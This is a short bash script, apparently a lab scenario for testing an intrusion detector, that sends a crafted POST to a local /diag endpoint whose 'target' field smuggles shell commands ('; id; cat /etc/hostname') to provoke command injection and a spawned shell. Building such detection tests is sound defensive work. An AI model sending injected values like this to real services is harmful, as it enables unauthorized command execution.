#!/usr/bin/env bash
# scenario: a crafted /diag request makes the twin engine run a shell (command injection)
# kind: attack
# vector: unauthorized control-plane access
# expect: Shell or interpreter spawned by twin service
# chain: engine
set -euo pipefail
source "$LAB_ENV"
curl -s -m 5 -X POST -H 'Content-Type: application/json' \
	-d '{"target":"-s; id; cat /etc/hostname"}' "http://127.0.0.1:$API_PORT/diag" >/dev/null
